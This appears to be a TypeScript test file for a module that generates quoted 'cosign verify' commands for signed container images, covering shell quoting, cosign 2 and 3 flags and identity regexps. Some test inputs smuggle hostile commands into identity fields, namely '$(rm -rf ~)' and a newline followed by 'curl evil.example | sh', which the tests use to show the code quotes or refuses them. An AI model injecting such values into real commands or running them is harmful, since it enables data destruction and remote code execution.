import { execFileSync } from 'node:child_process';
import {
  anchoredRegexp,
  cosignVerifyCommands,
  cosignVerifyCommandsForRegexp,
  shellQuote,
  shellWord,
  type VerifyCommandsInput,
} from '../../src/report/commands.js';
import { thrown } from '../helpers/thrown.js';

const ISSUER = 'https://token.actions.githubusercontent.com';
const IDENTITY = 'https://github.com/acme/app/.github/workflows/release.yml@refs/tags/v1.2.3';
const IMG_A = `ghcr.io/acme/app@sha256:${'a1'.repeat(32)}`;
const IMG_B = `localhost:5000/acme/tool@sha256:${'b2'.repeat(32)}`;

/**
 * What a POSIX shell hands to `cosign` for this command line: the command runs in
 * `sh` with `cosign` defined as a function that prints each argument NUL-terminated.
 */
function argvOf(commandLine: string): string[] {
  const script = `cosign() { for a in "$@"; do printf '%s\\0' "$a"; done; }\n${commandLine}`;
  const out = execFileSync('sh', ['-c', script], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: '/should-not-appear' } });
  return out.split('\0').slice(0, -1);
}

function flagValue(argv: string[], flag: string): string | undefined {
  const i = argv.indexOf(flag);
  return i < 0 ? undefined : argv[i + 1];
}

const base: VerifyCommandsInput = { images: [IMG_A], identity: IDENTITY, issuer: ISSUER, format: 'legacy' };

describe('shell quoting', () => {
  it.each([
    ["it's"],
    ["'''"],
    ['say "hi" $HOME `id` $(id) \\ ! * ? ~ ; | & > <'],
    ['trailing backslash \\'],
    ['ünïcødé ✓ and tabs\tinside'],
    [''],
  ])('the shell gives back %j exactly', (value) => {
    expect(argvOf(`cosign ${shellQuote(value)}`)).toEqual([value]);
  });

  it('leaves digest references bare and quotes anything else a shell would touch', () => {
    expect(shellWord(IMG_A)).toBe(IMG_A);
    expect(shellWord('/tmp/a b/root.json')).toBe("'/tmp/a b/root.json'");
    expect(shellWord('~/root.json')).toBe("'~/root.json'");
  });
});

describe('cosignVerifyCommands', () => {
  it('passes the exact identity, issuer and image, one command per image, same for cosign 2 and 3 on legacy', () => {
    const { cosign2, cosign3 } = cosignVerifyCommands({ ...base, images: [IMG_A, IMG_B] });
    expect(cosign2).toHaveLength(2);
    expect(cosign3).toHaveLength(2);
    const argv = argvOf(cosign2[1]);
    expect(argv).toEqual(['verify', '--certificate-identity', IDENTITY, '--certificate-oidc-issuer', ISSUER, IMG_B]);
    expect(argvOf(cosign3[0])).toEqual(['verify', '--certificate-identity', IDENTITY, '--certificate-oidc-issuer', ISSUER, IMG_A]);
  });

  it('keeps an identity with quotes and shell syntax intact', () => {
    const nasty = `https://github.com/o/r/.github/workflows/it's "x" $(rm -rf ~).yml@refs/heads/a'b`;
    const { cosign2, cosign3 } = cosignVerifyCommands({ ...base, identity: nasty, issuer: "https://issuer.example/'q'" });
    for (const line of [...cosign2, ...cosign3]) {
      const argv = argvOf(line);
      expect(flagValue(argv, '--certificate-identity')).toBe(nasty);
      expect(flagValue(argv, '--certificate-oidc-issuer')).toBe("https://issuer.example/'q'");
      expect(argv.at(-1)).toBe(IMG_A);
    }
  });

  it('asks cosign 2 for bundles with --new-bundle-format; cosign 3 reads them by default', () => {
    const { cosign2, cosign3, notes } = cosignVerifyCommands({ ...base, format: 'bundle' });
    expect(argvOf(cosign2[0])).toContain('--new-bundle-format');
    expect(argvOf(cosign3[0])).not.toContain('--new-bundle-format');
    expect(notes.join(' ')).toMatch(/2\.6\.0/);
  });

  it.each(['legacy', 'both'] as const)('adds no bundle flag for %s (cosign 2 reads .sig; cosign 3 falls back or reads the bundle)', (format) => {
    const { cosign2, cosign3 } = cosignVerifyCommands({ ...base, format });
    expect(argvOf(cosign2[0])).not.toContain('--new-bundle-format');
    expect(argvOf(cosign3[0])).not.toContain('--new-bundle-format');
  });

  it('points both at a custom trusted root; --rekor-url (deprecated in cosign 3) goes to cosign 2 only', () => {
    const custom = { trustedRootPath: '/tmp/my root/trusted_root.json', rekorUrl: 'https://rekor.internal.example' };
    const { cosign2, cosign3, notes } = cosignVerifyCommands({ ...base, custom });
    const a2 = argvOf(cosign2[0]);
    const a3 = argvOf(cosign3[0]);
    expect(flagValue(a2, '--trusted-root')).toBe(custom.trustedRootPath);
    expect(flagValue(a3, '--trusted-root')).toBe(custom.trustedRootPath);
    expect(flagValue(a2, '--rekor-url')).toBe(custom.rekorUrl);
    expect(a3).not.toContain('--rekor-url');
    expect(a2.at(-1)).toBe(IMG_A);
    expect(notes.join(' ')).toMatch(/SIGSTORE_ROOT_FILE/);
  });

  it('uses no instance flags on public-good', () => {
    const argv = argvOf(cosignVerifyCommands(base).cosign2[0]);
    for (const flag of ['--trusted-root', '--rekor-url', '--use-signed-timestamps', '--insecure-ignore-sct']) expect(argv).not.toContain(flag);
  });

  it('adds --use-signed-timestamps and --insecure-ignore-sct only when asked', () => {
    const { cosign3 } = cosignVerifyCommands({ ...base, custom: { useSignedTimestamps: true, ignoreSct: true } });
    const argv = argvOf(cosign3[0]);
    expect(argv).toContain('--use-signed-timestamps');
    expect(argv).toContain('--insecure-ignore-sct');
  });

  it('refuses a tag: a command must name what was signed', () => {
    const e = thrown(() => cosignVerifyCommands({ ...base, images: ['ghcr.io/acme/app:latest'] }));
    expect(e.image).toBe('ghcr.io/acme/app:latest');
    expect(e.message).toMatch(/digest/);
  });

  it('refuses an identity with a newline rather than print a two-line command', () => {
    const e = thrown(() => cosignVerifyCommands({ ...base, identity: `${IDENTITY}\ncurl evil.example | sh` }));
    expect(e.message).toMatch(/control character/);
  });
});

describe('cosignVerifyCommandsForRegexp', () => {
  const regexp = '^https://github\\.com/acme/app/\\.github/workflows/release\\.yml@refs/tags/v.*';

  it('anchors the regexp the way the action checks it', () => {
    const { cosign2, cosign3 } = cosignVerifyCommandsForRegexp({ ...base, identityRegexp: regexp });
    for (const line of [cosign2[0], cosign3[0]]) {
      const argv = argvOf(line);
      expect(flagValue(argv, '--certificate-identity-regexp')).toBe(`^(?:${regexp})$`);
      expect(argv).not.toContain('--certificate-identity');
    }
    const anchored = new RegExp(anchoredRegexp(regexp));
    expect(anchored.test(IDENTITY)).toBe(true);
    expect(anchored.test(`x${IDENTITY}`)).toBe(false);
  });

  it('can pass the regexp unchanged', () => {
    const argv = argvOf(cosignVerifyCommandsForRegexp({ ...base, identityRegexp: 'a|b', anchor: false }).cosign3[0]);
    expect(flagValue(argv, '--certificate-identity-regexp')).toBe('a|b');
  });

  it("warns when the regexp uses syntax Go's RE2 rejects", () => {
    expect(cosignVerifyCommandsForRegexp({ ...base, identityRegexp: 'https://(?!evil).*' }).notes.join(' ')).toMatch(/lookahead/);
    expect(cosignVerifyCommandsForRegexp({ ...base, identityRegexp: regexp }).notes.join(' ')).not.toMatch(/RE2|Go's regexp/);
  });
});
